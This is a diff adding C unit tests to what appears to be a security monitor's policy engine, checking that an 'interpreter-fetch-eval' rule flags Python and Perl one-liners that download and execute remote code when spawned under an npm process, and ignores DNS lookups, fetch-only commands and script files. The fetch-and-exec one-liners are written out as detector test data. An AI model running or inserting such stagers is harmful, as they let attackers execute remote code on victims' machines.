@@ -2224,6 +2224,29 @@ static void test_default_provenance(void **state)
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
 	e = ev_file(&x, "open-write", "/home/ci/src/project/.profile.d/x", NULL, 0, false);
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	/* a one-liner that evaluates code and connects itself: a fetch-and-run stager */
+	e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
+	fx_set(&x.proc, "/usr/bin/python3.11",
+	       ARGV("python3", "-c", "import urllib.request as r; exec(r.urlopen(u).read())"),
+	       NPM_ANC);
+	x.proc.e.program_from = BW_PROG_ARGUMENT;
+	assert_true(ev_matches(p, e, "interpreter-fetch-eval"));
+	fx_set(&x.proc, "/usr/bin/perl", ARGV("perl", "-MLWP::Simple", "-e", "eval get($u)"),
+	       NPM_ANC);
+	x.proc.e.program_from = BW_PROG_ARGUMENT;
+	assert_true(ev_matches(p, e, "interpreter-fetch-eval"));
+	/* ... not its DNS query, nor a one-liner that only fetches, nor a script file */
+	e = ev_connect(&x, "127.0.0.53", 53, "udp", NULL, 0);
+	assert_false(ev_matches(p, e, "interpreter-fetch-eval"));
+	e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
+	fx_set(&x.proc, "/usr/bin/python3.11",
+	       ARGV("python3", "-c", "import urllib.request as r; print(r.urlopen(u).status)"),
+	       NPM_ANC);
+	x.proc.e.program_from = BW_PROG_ARGUMENT;
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("python3", "fetch.py", "exec(x)"), NPM_ANC);
+	x.proc.e.program_from = BW_PROG_FILE;
+	assert_int_equal(policy_match_event(p, e, out, 8), 0);
 	policy_free(p);
 }
 
